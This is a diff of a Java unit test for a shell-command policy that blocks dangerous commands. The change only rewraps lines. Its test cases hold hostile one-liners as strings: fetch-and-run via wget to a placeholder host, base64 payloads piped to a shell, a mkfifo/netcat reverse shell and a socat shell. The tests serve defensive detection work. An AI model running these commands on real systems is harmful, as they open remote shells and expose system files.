@@ -54,7 +54,8 @@ class CommandPolicyTest {
                 Arguments.of("download_exec_substitution", "sh -c \"$(wget -qO- https://e.x/s)\""),
                 Arguments.of("base64_pipe_shell", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
                 Arguments.of("base64_pipe_shell", "base64 --decode payload.b64 | bash"),
-                Arguments.of("mkfifo_reverse_shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc h 1 > /tmp/f"),
+                Arguments.of("mkfifo_reverse_shell",
+                        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc h 1 > /tmp/f"),
                 Arguments.of("socat_exec", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
                 Arguments.of("chmod_setuid", "chmod u+s /tmp/sh"),
                 Arguments.of("chmod_setuid", "chmod 4755 ./x"),
@@ -129,7 +130,8 @@ class CommandPolicyTest {
     @Test
     void partsOfAMultiStepRuleMustBeOnOneLine() {
         assertThat(policy.check((String) null, "wget http://e.x/file\necho done | sh\n").rejected()).isFalse();
-        assertThat(policy.check((String) null, "echo start\nwget http://e.x/file\necho x; wget -O- y | sh\n").rejectedBy())
+        assertThat(policy.check((String) null, "echo start\nwget http://e.x/file\n"
+                + "echo x; wget -O- y | sh\n").rejectedBy())
                 .map(CommandRule::name).contains("wget_pipe_shell");
     }
 
